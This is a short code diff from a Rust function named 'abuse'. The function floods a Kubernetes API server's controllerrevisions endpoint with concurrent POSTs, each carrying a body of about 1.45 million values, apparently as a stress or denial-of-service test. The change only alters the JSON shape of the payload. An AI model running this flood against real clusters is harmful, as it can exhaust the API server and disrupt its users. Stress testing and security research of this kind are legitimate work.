@@ -119,8 +119,9 @@ pub async fn abuse(arguments: &[String]) {
     let values = "1,".repeat(1_450_000);
     for number in 0..senders.parse().unwrap() {
         let client = target.client();
-        let body =
-            format!(r#"{{"metadata":{{"name":"a{number}"}},"revision":1,"data":[{values}1]}}"#);
+        let body = format!(
+            r#"{{"metadata":{{"name":"a{number}"}},"revision":1,"data":{{"values":[{values}1]}}}}"#
+        );
         let path = "/apis/apps/v1/namespaces/default/controllerrevisions?dryRun=All";
         let call = Call::new("POST", path).body("application/json", body);
         tokio::spawn(async move {
